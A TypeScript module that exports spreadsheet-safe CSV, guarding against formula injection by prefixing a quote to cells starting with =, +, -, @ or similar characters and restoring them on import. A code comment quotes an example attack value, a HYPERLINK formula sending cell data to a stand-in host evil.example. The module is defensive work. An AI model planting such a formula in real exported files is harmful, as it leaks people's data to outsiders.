// Writing CSV that spreadsheets open safely and correctly. Pure.
import { stringify } from "csv-stringify/sync";

// CSV/formula injection: a cell starting with = + - @ (or tab/CR, which some spreadsheets skip
// before a formula) is run as a formula by Excel/LibreOffice — e.g. a "name" of
// =HYPERLINK("https://evil.example/?"&A2) would send case data to a stranger when clicked.
// Full-width forms are included as defence in depth for CJK input methods.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Prefixes a quote to any cell a spreadsheet would treat as a formula (OWASP's advice). */
export function neutraliseCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** Undoes neutraliseCell on import, so an exported list read back keeps its exact values. */
export function restoreCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}

/**
 * Rows → CSV text: CRLF line ends (Excel's own), every cell neutralised, and any cell holding a
 * line break quoted (csv-stringify quotes only the record delimiter by default, and a lone "\n"
 * inside an unquoted cell would split the row in Excel).
 */
export function toCsv(rows: readonly (readonly (string | null | undefined)[])[], opts: { bom?: boolean } = {}): string {
  return stringify(
    rows.map((row) => row.map((cell) => neutraliseCell(cell ?? ""))),
    { bom: opts.bom ?? false, record_delimiter: "windows", quoted_match: /[\r\n]/ },
  );
}

/** The UTF-8 byte order mark: without it, Excel in Korea reads UTF-8 Hangul as mojibake. */
export const UTF8_BOM = "\uFEFF";
